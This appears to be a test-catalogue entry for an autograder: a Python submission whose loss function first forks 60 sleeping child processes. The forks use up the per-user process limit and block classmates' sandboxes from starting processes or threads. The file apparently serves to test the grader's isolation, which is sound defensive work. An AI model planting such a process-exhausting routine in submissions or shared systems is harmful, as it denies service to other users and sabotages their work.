"""Hostile submission (gradverify attack catalogue): use up the process limit that classmates share.

The process limit (RLIMIT_NPROC) counts every process and thread of a user id. Sandboxes
that run as the same user id share it: 60 sleeping children (fewer than the 64 one
submission may have) leave a classmate's sandbox, started earlier, unable to start a
thread or a process while they live.
"""

import os
import time

import numpy as np


def _hold(children=60, seconds=2.0):
    kids = []
    for _ in range(children):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(seconds + 1)
            os._exit(0)
        kids.append(pid)
    time.sleep(seconds)
    return len(kids)


def loss(name, y_pred, y_true):
    _hold()
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
